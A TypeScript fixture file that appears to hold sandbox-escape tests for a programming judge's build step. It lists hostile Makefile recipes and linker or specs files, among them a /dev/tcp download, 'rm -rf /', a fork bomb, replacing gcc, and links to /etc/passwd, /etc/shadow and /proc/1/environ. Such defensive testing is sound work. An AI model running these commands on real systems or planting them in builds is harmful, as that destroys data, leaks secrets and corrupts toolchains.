/** Attacks with the build instead of the program: a kernel problem whose build files the submission may change. */
export interface BuildAttack {
  name: string;
  attack: string;
  /** Any of these verdicts is right. */
  verdicts: string[];
  /** What the build output must contain, which shows that the attack was attempted. */
  words?: RegExp[];
  /** Added to the starter code: `main.c`, which adds two numbers, and a `Makefile` that builds `program` from it. */
  files: Record<string, string>;
  commands: string[];
}

const make = (recipe: string): Pick<BuildAttack, 'files' | 'commands'> => ({
  files: { Makefile: `program: main.c\n${recipe.replace(/^/gm, '\t')}\n` },
  commands: ['make -s'],
});
const BUILT = 'gcc -static -o program main.c';

export const BUILD_ATTACKS: readonly BuildAttack[] = [
  {
    ...{ name: 'leave-daemon', attack: 'leaves a process behind that continues to build', verdicts: ['AC'] },
    ...make(`${BUILT}\n(setsid sh -c 'while true; do date > left; done' >/dev/null 2>&1 &)`),
  },
  {
    ...{ name: 'call-out', attack: 'downloads what it builds', verdicts: ['CE'] },
    ...make(`bash -c 'cat < /dev/tcp/1.1.1.1/80 > program'`),
  },
  {
    ...{ name: 'remove-everything', attack: 'removes every file it can', verdicts: ['CE'] },
    ...make('rm -rf --no-preserve-root / 2>/dev/null; false'),
  },
  {
    ...{ name: 'change-the-toolchain', attack: 'replaces the compiler for the next submission', verdicts: ['CE'] },
    ...make('cp /bin/true /usr/bin/gcc'),
  },
  {
    ...{ name: 'fork-bomb', attack: 'forks without end during the build', verdicts: ['CE'] },
    ...make(`bash -c 'f() { f | f & }; f; wait; exit 1'`),
  },
  {
    ...{ name: 'fill-the-disk', attack: 'writes until the disk is full', verdicts: ['CE'] },
    ...make('cat /dev/zero > large'),
  },
  {
    ...{ name: 'many-files', attack: 'creates files until no more can be created', verdicts: ['CE'] },
    ...make(`bash -c 'for i in {1..200000}; do : > f$i || exit 1; done' 2>/dev/null`),
  },
  {
    ...{ name: 'endless-words', attack: 'prints without end', verdicts: ['CE'] },
    ...make('yes'),
  },
  {
    ...{ name: 'sleep', attack: 'waits forever', verdicts: ['CE'] },
    ...make('sleep infinity'),
  },
  {
    ...{
      name: 'artefact-link',
      attack: 'makes its output a link to a file of the machine that it can read',
      verdicts: ['CE'],
    },
    ...make('ln -s /etc/passwd program'),
  },
  {
    ...{ name: 'artefact-link-above', attack: 'makes its output a link to a file outside the tree', verdicts: ['CE'] },
    ...make('ln -s ../../../../proc/1/environ program'),
  },
  {
    ...{ name: 'artefact-device', attack: 'makes its output a device, or a link to one', verdicts: ['CE'] },
    ...make('mknod program c 1 3 2>/dev/null || ln -s /dev/zero program'),
  },
  {
    ...{ name: 'linker-script-input', attack: 'makes the linker include a secret', verdicts: ['CE'] },
    files: { 'evil.ld': 'INPUT(/etc/shadow)\n' },
    commands: ['gcc -o program main.c evil.ld'],
  },
  {
    ...{ name: 'linker-script-device', attack: 'makes the linker read a device without end', verdicts: ['CE'] },
    files: { 'evil.ld': 'INPUT(/dev/zero)\n' },
    commands: ['gcc -o program main.c evil.ld'],
  },
  {
    ...{ name: 'linker-script-include', attack: 'makes the linker print a secret', verdicts: ['CE'] },
    files: { 'evil.ld': 'INCLUDE /proc/1/environ\n' },
    commands: ['gcc -o program main.c evil.ld'],
  },
  {
    ...{ name: 'specs-file', attack: 'makes the compiler driver start another program', verdicts: ['CE'] },
    files: { 'evil.specs': '*cc1:\n%{!x:-fplugin=/build/evil.so}\n\n*link_command:\nmount -t tmpfs none /usr\n' },
    commands: ['gcc -specs=evil.specs -o program main.c'],
  },
  {
    ...{ name: 'artefact-pipe', attack: 'makes its output a pipe that is never written to', verdicts: ['CE'] },
    ...make('mkfifo program'),
  },
  {
    ...{ name: 'artefact-folder', attack: 'makes its output a folder', verdicts: ['CE'] },
    ...make('mkdir program'),
  },
  {
    ...{ name: 'artefact-huge', attack: 'makes its output larger than the limit', verdicts: ['CE'] },
    ...make('truncate -s 8T program'),
  },
  {
    ...{
      name: 'artefact-hard-link',
      attack: 'makes its output a hard link to a file of the machine',
      verdicts: ['CE'],
    },
    ...make('ln /etc/passwd program'),
  },
  {
    ...{ name: 'look-around', attack: 'looks for tests and for other submissions', verdicts: ['AC'] },
    ...make(
      `if find / -xdev -name '*.ans' -not -path '/proc/*' 2>/dev/null | grep .; then false; fi\nif ls /box/* 2>/dev/null | grep -v work; then false; fi\n${BUILT}`,
    ),
  },
];
